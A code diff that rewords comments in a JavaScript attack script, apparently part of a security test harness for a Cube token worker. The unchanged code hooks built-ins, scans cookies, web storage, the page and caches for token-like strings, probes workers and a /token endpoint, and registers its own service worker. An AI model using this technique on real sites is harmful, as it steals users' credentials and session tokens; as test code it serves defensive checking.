@@ -1,6 +1,6 @@
-/* A hostile script in the page: it records all that passes by, reads all that is kept, and asks for all that it can name. */
+/* A hostile script in the page: it records all traffic, reads all storage, and requests everything that it can name. */
 {
-  /** Each run of characters that could be a part of a token. */
+  /** Each run of characters that could be part of a token. */
   const loot = new Set();
   const { add: keep } = Set.prototype;
   const { match } = String.prototype;
@@ -11,9 +11,9 @@
   const then = Promise.prototype.then;
   let busy = false;
 
-  /** So many objects for one look. */
+  /** The number of objects read at a time. */
   let budget = 0;
-  /** Whatever it is, as text. */
+  /** Any value as text. */
   const text = (value, depth = 0) => {
     if (typeof value === "string") return value;
     if (typeof value === "function") return value.name;
@@ -47,13 +47,13 @@
     try {
       for (const run of apply(match, text(values), [/[\w-]{12,}/g]) ?? []) apply(keep, loot, [run]);
     } catch {
-      // An object that has no text: there is nothing to be read in it.
+      // An object without text: nothing to read.
     } finally {
       busy = false;
     }
   };
 
-  /** Replaces a function by one that records what goes in and what comes out. */
+  /** Replaces a function by one that records its arguments and results. */
   const tap = (target, name) => {
     const original = target?.[name];
     if (typeof original !== "function") return;
@@ -114,7 +114,7 @@
     for (const name of ["assign", "entries", "fromEntries", "defineProperty", "freeze"]) tap(Object, name);
     for (const name of ["resolve", "all", "race"]) tap(Promise, name);
     for (const name of ["log", "debug", "warn", "error"]) tap(console, name);
-    // Every value that any promise of the page's resolves to.
+    // Every value that any promise of the page resolves to.
     // biome-ignore lint/suspicious/noThenProperty: that is the attack.
     Promise.prototype.then = function (done, failed) {
       const record = (next) =>
@@ -126,7 +126,7 @@
           : next;
       return apply(then, this, [record(done), record(failed)]);
     };
-    // Every message that any listener of the page's gets, and every name that somebody writes to where there was none.
+    // Every message to any listener of the page, and every new property that is written.
     const add = EventTarget.prototype.addEventListener;
     EventTarget.prototype.addEventListener = function (type, listener, ...rest) {
       const own =
@@ -202,7 +202,7 @@
       request.onerror = () => reject(request.error);
     });
 
-  /** All that is kept anywhere. */
+  /** Reads all storage. */
   const read = async () => {
     see(document.cookie, { ...localStorage }, { ...sessionStorage }, name, history.state, location.href);
     see(document.documentElement.outerHTML);
@@ -220,7 +220,7 @@
     }
     see((await navigator.serviceWorker?.getRegistrations()) ?? "", await navigator.locks?.query());
     see(performance.getEntries().map((entry) => entry.toJSON()));
-    // What the HTTP cache has of the endpoint and of Cube. WebKit goes on to ask the endpoint itself: the server can tell.
+    // The HTTP cache of the endpoint and of Cube. WebKit then asks the endpoint itself, which the server can detect.
     const headers = { "X-Attack": "cache" };
     for (const url of ["/token?from=worker", "/cubejs-api/v1/load", "/cubejs-api/v1/meta"]) {
       for (const init of [
@@ -230,7 +230,7 @@
         see(await fetch(url, { ...init, headers }).then((response) => response.text(), String));
       }
     }
-    // All that can be reached from what the application has left lying about.
+    // Everything reachable from the application's globals.
     const visited = new Set();
     const walk = (value, depth) => {
       if (
@@ -327,7 +327,7 @@
     ["send", 2 ** 53, "load", "{}", true],
   ];
 
-  /** Asks a worker for everything, over its own port and over one that it is given. */
+  /** Asks a worker for everything, over its own port and over a new one. */
   const askWorker = async (worker) => {
     const target = worker.port ?? worker;
     target.addEventListener("message", (event) => see("worker", event));
@@ -357,7 +357,7 @@
     for (const type of ["token", "getToken", "eval", "constructor", "__proto__", "onEvent"]) {
       for (const rest of [[], [1], [1, "token"], [1, { token: true }]]) port1.postMessage([type, ...rest]);
     }
-    // As if its token had been refused: errors, and the request for another one, may say something.
+    // As if its token had been refused: errors, or the request for another one, may reveal something.
     port1.postMessage(["invalidate"]);
     await later(1500);
     port1.postMessage(["clear", ++id]);
@@ -366,11 +366,11 @@
   };
 
   const attack = {
-    /** All that can be done without being the user. */
+    /** Everything that can be done without being the user. */
     async run() {
       await read();
       await askWorker(window.worker);
-      // One of its own, of the same script, and from a window with builtins that nobody has touched.
+      // A worker of its own, with the same script, and from a window with untouched built-ins.
       for (const start of [
         () => new Worker("/cube-worker.js", { name: "token" }),
         () => new SharedWorker("/cube-worker.js"),
@@ -386,7 +386,7 @@
       await read();
     },
 
-    /** Asks the endpoint itself, in four ways; resolves to what each has got. */
+    /** Asks the endpoint itself, in four ways; resolves to the results. */
     async askEndpoint() {
       const from = (kind) => `/token?from=${kind}`;
       const results = {};
@@ -407,7 +407,7 @@
       results.worker = await inWorker(
         `fetch("${origin}${from("own")}").then((response) => response.text()).then(postMessage);`,
       );
-      // The application's script in a worker of its own, where fetch is another.
+      // The application's script in a worker of its own, with another fetch.
       const patch = `
         const real = fetch;
         const original = fetch;
@@ -441,7 +441,7 @@
       return results;
     },
 
-    /** Registers a service worker of its own, and has the application's worker started anew under it. */
+    /** Registers a service worker of its own, and restarts the application's worker under it. */
     async serviceWorker(script) {
       const registration = await navigator.serviceWorker.register(script);
       const coming = registration.installing ?? registration.waiting ?? registration.active;
@@ -467,7 +467,7 @@
       await registration.unregister();
     },
 
-    /** Which of these it has, by their numbers. In hexadecimal, so that the driver's own words are no find. */
+    /** Which of these it has found, by index. In hexadecimal, so that the driver's own messages do not match. */
     found(needles) {
       busy = true;
       const found = [];
